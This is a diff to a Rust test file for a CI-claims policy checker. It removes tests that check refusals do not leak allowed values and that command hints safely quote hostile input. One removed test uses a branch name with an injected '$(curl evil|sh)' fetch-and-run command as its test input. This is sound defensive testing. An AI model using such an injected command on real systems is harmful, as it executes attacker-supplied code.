@@ -1,7 +1,7 @@
 //! The order of the steps and what each answers.
 
 use super::*;
-use crate::claims::testing::github;
+use crate::support::claims::github;
 
 /// Changes that break one step each, in the order of the steps: (code, claims, policy, candidate).
 fn breakages() -> Vec<(&'static str, Value, Value, Value)> {
@@ -90,49 +90,6 @@ fn the_promised_texts_are_word_for_word() {
 fn an_exchange_needs_no_key_yet() {
     let verdict = decided(&github(), github_policy(), one("escrow_key_loaded", false), one("pull", false));
     assert_eq!(word(&verdict), "granted");
-}
-
-#[test]
-fn p27_a_refusal_names_the_callers_value_and_never_an_allowed_one() {
-    let secret = [
-        "hidden-branch",
-        "hidden-env",
-        "hidden.yml",
-        "hidden-ci",
-        "hidden-tag",
-        "hidden-audience",
-        "schedule",
-    ];
-    let policy = || {
-        changed(
-            github_policy(),
-            json!({
-                "allowedBranches": ["main", "hidden-branch"], "allowedEnvironments": ["production", "hidden-env"],
-                "allowedTags": ["hidden-tag"], "allowedEvents": ["push", "schedule"]
-            }),
-        )
-    };
-    for (claims, changes, facts, shown) in [
-        (one("ref", "refs/heads/evil"), json!({}), json!({}), "evil"),
-        (json!({ "ref": "refs/tags/evil", "ref_type": "tag" }), json!({}), json!({}), "evil"),
-        (one("event_name", "release"), json!({}), json!({}), "release"),
-        (json!({}), json!({}), one("environment", "evil"), "evil"),
-        (json!({}), one("workflow", ".github/workflows/hidden.yml"), json!({}), "deploy.yml"),
-        (json!({}), one("ciEnvironment", "hidden-ci"), json!({}), "production"),
-        (json!({}), one("audience", "https://hidden-audience"), json!({}), "https://lpm.dev"),
-    ] {
-        let verdict = decided(&claims_with(github(), &claims), changed(policy(), changes), json!({}), facts);
-        let body = verdict.outcome.unwrap_err().body();
-        assert!(body.contains(shown), "{body}");
-        assert!(!secret.iter().any(|secret| body.contains(secret)), "{body}");
-    }
-}
-
-#[test]
-fn a_hint_is_a_command_that_cannot_be_turned_into_another() {
-    let evil = github().with("ref", "refs/heads/$(curl evil|sh)");
-    let failure = decided(&evil, github_policy(), json!({}), json!({})).outcome.unwrap_err();
-    assert!(failure.hint().contains("--branch='$(curl evil|sh)'"), "{}", failure.hint());
 }
 
 #[test]
